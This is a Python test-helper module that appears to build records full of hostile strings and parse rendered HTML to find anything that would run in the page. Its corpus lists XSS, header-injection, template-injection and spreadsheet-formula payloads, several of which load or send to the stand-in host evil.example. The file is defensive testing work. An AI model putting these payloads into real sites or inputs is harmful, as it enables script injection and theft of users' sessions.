"""Texts that would harm a careless page, records full of them, and what a page makes of them."""

import json
from dataclasses import MISSING, fields, is_dataclass
from html.parser import HTMLParser
from itertools import count
from typing import Any
from urllib.parse import urlsplit

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<script/src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>",
    "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    " \tjava\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "x\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
    "{{ 7 * '9' }}{% for x in (1,) %}loop{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "x;background:url(javascript:alert(1))",
    "\u202eexe.gnp\u202c\u2066\u0000<b>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=HYPERLINK('//evil.example')",
    "\\u003cscript\\u003ealert(1)",
)
MARK = "hstl"  # begins what follows every text of ours, by which it is known again
_texts = count()


def a_text(kind: str) -> str:
    """Return the next text of the corpus, with a mark of what it was put into."""
    number = next(_texts)
    return f"{CORPUS[number % len(CORPUS)]}{MARK}{kind}"


def full_of(noun: type, **known: Any) -> Any:
    """Build a noun; every text of it that is not given is hostile."""
    assert is_dataclass(noun)
    kind = noun.__name__.lower()
    said = {
        each.name: a_text(kind)
        for each in fields(noun)
        if each.name not in known and each.type in (str, "str")
    }
    lacking = [
        each.name
        for each in fields(noun)
        if each.name not in said | known
        and each.default is MISSING
        and each.default_factory is MISSING
    ]
    assert not lacking, f"{kind} needs {lacking}"
    return noun(**said, **known)


class Reading(HTMLParser):
    """A page as a browser reads it: what would run in it, its texts, links and forms."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.harm: list[str] = []
        self.texts: list[str] = []
        self.links: list[str] = []
        self.forms: list[tuple[dict[str, str], dict[str, str]]] = []
        self._script: str | None = None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Notice what runs, what leads away, and what a form sends."""
        given = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base", "style", "math", "applet", "frame"}:
            self.harm.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.harm.append("<meta http-equiv>")
        for name, value in given.items():
            if name.startswith("on") or name in {"style", "srcdoc"} or MARK in name:
                self.harm.append(f"<{tag} {name}>")
            if name in {"href", "src", "action", "formaction", "data", "xlink:href", "poster"}:
                self._address(tag, name, value)
        self._script = None
        if tag == "script":
            is_ours = given.get("src", "").startswith("/static/studio/")
            is_data = given.get("type") == "application/json"
            if not is_ours and not is_data:
                self.harm.append("<script>")
            self._script = "data" if is_data else "ours"
        self._form(tag, given)
        self.texts += [value for name, value in given.items() if name not in {"href", "src"}]

    def handle_data(self, data: str) -> None:
        """Keep what is read; inside a script there may be data and nothing else."""
        if self._script == "data" and data.strip():
            json.loads(data)
        if self._script == "ours" and data.strip():
            self.harm.append(f"a script in the page: {data[:40]!r}")
        self.texts.append(data)

    def handle_endtag(self, tag: str) -> None:
        """A script ends."""
        if tag == "script":
            self._script = None

    def _address(self, tag: str, name: str, value: str) -> None:
        scheme = "".join(value.split()).partition(":")[0].lower() if ":" in value else ""
        is_picture = tag == "img" and value.startswith("data:image/")
        if scheme in {"javascript", "vbscript"} or (scheme == "data" and not is_picture):
            self.harm.append(f"<{tag} {name}={value[:40]!r}>")
        if tag in {"link", "script", "form"} and value.startswith(("//", "http")):
            self.harm.append(f"<{tag} {name}={value[:40]!r}>")
        if tag == "a" and urlsplit(value).path.startswith("/studio/"):
            self.links.append(value)

    def _form(self, tag: str, given: dict[str, str]) -> None:
        if tag == "form":
            self.forms.append((given, {}))
        elif self.forms and given.get("name") and tag in {"input", "textarea", "button", "select"}:
            kind = given.get("type", "text") if tag == "input" else tag
            if kind not in {"checkbox", "file"}:
                self.forms[-1][1].setdefault(given["name"], kind + "=" + given.get("value", ""))
        elif self.forms and tag == "option" and self.forms[-1][1]:
            name, what = list(self.forms[-1][1].items())[-1]
            if what == "select=":
                self.forms[-1][1][name] = "select=" + given.get("value", "")
